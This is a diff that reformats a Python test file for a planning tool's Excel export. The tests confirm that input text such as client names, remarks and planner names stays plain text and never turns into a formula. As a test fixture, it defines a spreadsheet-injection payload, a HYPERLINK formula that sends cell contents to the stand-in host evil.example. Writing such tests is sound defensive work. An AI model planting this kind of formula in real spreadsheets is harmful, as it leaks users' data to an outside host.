@@ -29,31 +29,58 @@ PAYLOAD = 'HYPERLINK("http://evil.example/?d="&A2,"Bevestig")'
 def _formulas(content: bytes) -> list[str]:
     """The worksheets of a workbook that hold a formula."""
     with zipfile.ZipFile(io.BytesIO(content)) as z:
-        return [n for n in z.namelist()
-                if n.startswith("xl/worksheets/") and b"<f>" in z.read(n)]  # fmt: skip
+        return [n for n in z.namelist() if n.startswith("xl/worksheets/") and b"<f>" in z.read(n)]
 
 
 def _texts(content: bytes) -> set[str]:
     wb = load_workbook(io.BytesIO(content))
-    return {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row
-            if isinstance(c.value, str)}  # fmt: skip
+    return {
+        c.value
+        for ws in wb.worksheets
+        for row in ws.iter_rows()
+        for c in row
+        if isinstance(c.value, str)
+    }
 
 
 def _poisoned_problem():
     cases, locations, people = [], [], []
     for k, p in enumerate(PREFIXES):
         provider, place = f"{p}Aanbieder{k}", f"{p}Locatie{k}"
-        locations.append(location(place, provider=provider, address=f"{p}{PAYLOAD}",
-                                  city=f"{p}Stad", contact=f"{p}Contact"))  # fmt: skip
-        cases.append(case(f"{p}D{k}", place, provider=provider, client=f"{p}{PAYLOAD}",
-                          begeleider=f"{p}Begeleider", remark=f"{p}{PAYLOAD}"))  # fmt: skip
+        locations.append(
+            location(
+                place,
+                provider=provider,
+                address=f"{p}{PAYLOAD}",
+                city=f"{p}Stad",
+                contact=f"{p}Contact",
+            )
+        )
+        cases.append(
+            case(
+                f"{p}D{k}",
+                place,
+                provider=provider,
+                client=f"{p}{PAYLOAD}",
+                begeleider=f"{p}Begeleider",
+                remark=f"{p}{PAYLOAD}",
+            )
+        )
         # one that cannot be planned: the unplanned sheets carry its texts too
-        cases.append(case(f"{p}U{k}", place, provider=provider, client=f"{p}Onplanbaar",
-                          indication_end=date(2026, 11, 1)))  # fmt: skip
+        cases.append(
+            case(
+                f"{p}U{k}",
+                place,
+                provider=provider,
+                client=f"{p}Onplanbaar",
+                indication_end=date(2026, 11, 1),
+            )
+        )
         people.append(replace(consultant(f"C{k}"), name=f"{p}Consulent"))
     p = problem(cases, consultants=people, locations=locations)
-    return replace(p, settings=replace(p.settings, planner_name=f"={PAYLOAD}",
-                                       organizer_name=f"+{PAYLOAD}"))  # fmt: skip
+    return replace(
+        p, settings=replace(p.settings, planner_name=f"={PAYLOAD}", organizer_name=f"+{PAYLOAD}")
+    )
 
 
 def test_no_text_of_the_input_becomes_a_formula_in_any_workbook():
@@ -68,15 +95,25 @@ def test_no_text_of_the_input_becomes_a_formula_in_any_workbook():
 
 def test_a_providers_online_remark_stays_text(tmp_path):
     plan = solve(problem([case("D1")]), seconds=2)
-    (name,) = [n for n in planning_files(plan) if n.startswith("aanbieders/")
-               and n.endswith(".xlsx")]  # fmt: skip
+    (name,) = [
+        n for n in planning_files(plan) if n.startswith("aanbieders/") and n.endswith(".xlsx")
+    ]
     path = tmp_path / "yulius.xlsx"
     path.write_bytes(planning_files(plan)[name])
     a = plan.appointments[0]
     for prefix in PREFIXES:
         remark = f"{prefix}{PAYLOAD}"
-        answer = Answer("Yulius", "D1", plan.revision, a.day, a.start, "ja", remark,
-                        datetime(2026, 11, 30, 9), "web")  # fmt: skip
+        answer = Answer(
+            "Yulius",
+            "D1",
+            plan.revision,
+            a.day,
+            a.start,
+            "ja",
+            remark,
+            datetime(2026, 11, 30, 9),
+            "web",
+        )
         content = answered_workbook(path, {"D1": answer}, {"D1": a}, "nl")
         assert _formulas(content) == [], repr(prefix)
         # kept as text (XML reads a carriage return as a line feed)
@@ -85,8 +122,11 @@ def test_a_providers_online_remark_stays_text(tmp_path):
 
 def test_the_input_template_keeps_given_values_as_text(tmp_path):
     path = tmp_path / "invoer.xlsx"
-    rows = {"Herindicaties": [{"dossier": f"{p}D{k}", "client": f"{p}{PAYLOAD}"}
-                              for k, p in enumerate(PREFIXES)]}  # fmt: skip
+    rows = {
+        "Herindicaties": [
+            {"dossier": f"{p}D{k}", "client": f"{p}{PAYLOAD}"} for k, p in enumerate(PREFIXES)
+        ]
+    }
     write_input_workbook(path, rows, {"planner_naam": f"={PAYLOAD}"})
     content = path.read_bytes()
     assert _formulas(content) == []
